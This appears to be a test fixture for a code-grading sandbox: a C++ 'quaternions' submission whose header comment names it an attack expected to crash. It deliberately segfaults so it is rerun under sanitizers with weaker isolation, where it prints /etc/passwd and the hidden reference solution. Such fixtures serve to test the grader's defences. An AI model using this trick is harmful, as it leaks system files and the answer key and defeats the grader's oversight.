// Attack: crashes, so that it is run again with sanitizers, behind lower walls; there it reads
//         /etc/passwd and the solution and prints them.
// Verdict: crashed
#include <fstream>
#include <iostream>
@sanitized@

namespace quaternions {
Quaternion product(const Quaternion& a, const Quaternion&) {
#ifdef __SANITIZE_ADDRESS__
  std::cerr << std::ifstream("/etc/passwd").rdbuf()
            << std::ifstream("@ROOT@/solutions/04_quaternions/product.cpp").rdbuf() << std::flush;
#endif
  volatile int* nowhere = nullptr;
  *nowhere = 1;
  return a;
}
}  // namespace quaternions
